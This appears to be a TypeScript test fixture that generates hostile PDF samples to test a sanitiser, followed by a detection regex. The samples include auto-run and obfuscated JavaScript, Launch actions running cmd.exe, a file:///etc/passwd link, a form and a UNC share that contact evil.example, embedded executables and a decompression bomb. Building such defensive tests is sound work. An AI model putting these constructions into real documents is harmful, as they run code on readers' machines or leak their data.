import { deflateSync } from 'node:zlib';

/** A page, with what is hostile at its root, on the page, and as objects of its own. */
function pdf({ root = '', page = '', objects = [] }: { root?: string; page?: string; objects?: (string | Buffer)[] }) {
  const parts: (string | Buffer)[] = [
    '%PDF-1.7\n',
    `1 0 obj<</Type/Catalog/Pages 2 0 R ${root}>>endobj\n`,
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n',
    `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R ${page}>>endobj\n`,
    '4 0 obj<</Length 9>>stream\n0 0 m 9 9\nendstream endobj\n',
    ...objects,
    '\ntrailer<</Root 1 0 R>>\n%%EOF',
  ];
  return Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
}

/** Objects that are compressed together, as most programs write them. */
function packed(number: number, inside: string): Buffer {
  const head = `${number} 0 `;
  const bytes = deflateSync(Buffer.from(head + inside, 'latin1'));
  const start = `90 0 obj<</Type/ObjStm/N 1/First ${head.length}/Filter/FlateDecode/Length ${bytes.length}>>stream\n`;
  return Buffer.concat([Buffer.from(start), bytes, Buffer.from('\nendstream endobj\n')]);
}

const script = '<</S/JavaScript/JS(app.alert(1))>>';
const note = (inside: string) => `/Annots[<</Type/Annot/Rect[0 0 9 9]${inside}>>]`;
const attached = '7 0 obj<</Type/EmbeddedFile/Length 7>>stream\nEVILEXE\nendstream endobj\n';
const spec = '<</Type/Filespec/F(EVIL.exe)/EF<</F 7 0 R>>>>';

/** Each does something on the machine of its reader, hides something, or breaks who reads it. */
export const hostilePdfs: Record<string, Buffer> = {
  'a script at the start': pdf({ root: `/OpenAction${script}` }),
  'a script under a spelled name': pdf({ root: '/Open#41ction<</S/J#61vaScript/#4a#53(app.alert(1))>>' }),
  'a script in the list of names': pdf({ root: `/Names<</JavaScript<</Names[(a)${script}]>>>>` }),
  'a script in packed objects': pdf({ root: '/OpenAction 8 0 R', objects: [packed(8, script)] }),
  'a spelled script in packed objects': pdf({
    root: '/OpenAction 8 0 R',
    objects: [packed(8, '<</S/J#61vaScript/J#53(app.alert(1))>>')],
  }),
  'a script when the page is shown': pdf({ page: `/AA<</O${script}>>` }),
  'a script behind a link': pdf({ page: note(`/Subtype/Link/A${script}`) }),
  'a script after a harmless action': pdf({
    page: note(`/Subtype/Link/A<</S/URI/URI(https://example.com)/Next${script}>>`),
  }),
  'a program behind a link': pdf({ page: note('/Subtype/Link/A<</S/Launch/F(calc.exe)>>') }),
  'a program at the start': pdf({ root: '/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>' }),
  'a script as an address': pdf({ page: note('/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>') }),
  'a file of the reader as an address': pdf({ page: note('/Subtype/Link/A<</S/URI/URI(file:///etc/passwd)>>') }),
  'a share that learns who reads': pdf({ page: note('/Subtype/Link/A<</S/GoToR/F(\\\\\\\\evil.example\\\\s)>>') }),
  'a form that is sent': pdf({
    root: '/AcroForm<</Fields[8 0 R]/XFA 9 0 R>>',
    page: '/Annots[8 0 R]',
    objects: [
      '8 0 obj<</Subtype/Widget/FT/Btn/T(b)/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example)>>>>endobj\n',
    ],
  }),
  'a form of its own language': pdf({
    root: '/AcroForm<</XFA 9 0 R>>',
    objects: ['9 0 obj<</Length 24>>stream\n<xdp><script>EVIL</script>\nendstream endobj\n'],
  }),
  'a file inside': pdf({ root: `/Names<</EmbeddedFiles<</Names[(a)${spec}]>>>>`, objects: [attached] }),
  'a file on the page': pdf({ page: note(`/Subtype/FileAttachment/FS${spec}`), objects: [attached] }),
  'an associated file': pdf({ root: `/AF[${spec}]`, objects: [attached] }),
  'a film': pdf({ page: note('/Subtype/RichMedia/RichMediaContent<</Assets 7 0 R>>'), objects: [attached] }),
  'a rendition': pdf({ page: note(`/Subtype/Screen/A<</S/Rendition/R<</C<</D${spec}>>>>>>`), objects: [attached] }),
  'a picture that is elsewhere': pdf({
    page: '/Resources<</XObject<</I 8 0 R>>>>',
    objects: ['8 0 obj<</Subtype/Image/F(//evil.example/EVIL)/Length 0>>stream\n\nendstream endobj\n'],
  }),
  'a lock': Buffer.from(
    pdf({ objects: ['8 0 obj<</Filter/Standard/V 1/R 2/P -4>>endobj\n'] })
      .toString('latin1')
      .replace('trailer<<', 'trailer<</Encrypt 8 0 R'),
    'latin1',
  ),
  'objects beyond the end': Buffer.concat([
    pdf({}),
    Buffer.from(`\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction${script}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`),
  ]),
  'where it was written': pdf({
    root: '/Metadata 8 0 R',
    objects: [
      '8 0 obj<</Type/Metadata/Subtype/XML/Length 33>>stream\n<exif:GPSLatitude>EVIL</exif:GPS>\nendstream endobj\n',
    ],
  }),
  'a bomb': pdf({ objects: [bomb()] }),
  'pages within pages without end': Buffer.from(pdf({}).toString('latin1').replace('/Kids[3 0 R]', '/Kids[2 0 R]')),
  'no pages': Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF'),
  'no document at all': Buffer.from('%PDF-1.7\n<script>alert(1)</script>\n%%EOF'),
};

function bomb(): Buffer {
  const bytes = deflateSync(Buffer.alloc(20_000_000, ' '));
  const head = `90 0 obj<</Type/ObjStm/N 900000000/First 9/Filter/FlateDecode/Length ${bytes.length}>>stream\n`;
  return Buffer.concat([Buffer.from(head), bytes, Buffer.from('\nendstream endobj\n')]);
}

/** What must not be in a document that is handed to anyone. */
export const hostileInPdf =
  /JavaScript|\/JS\b|app\.alert|\/Launch|SubmitForm|ImportData|EmbeddedFile|Filespec|RichMedia|Rendition|XFA|OpenAction|\/AA\b|\/Next\b|EVIL|javascript:|file:|evil\.example|GPS|\/Encrypt/;
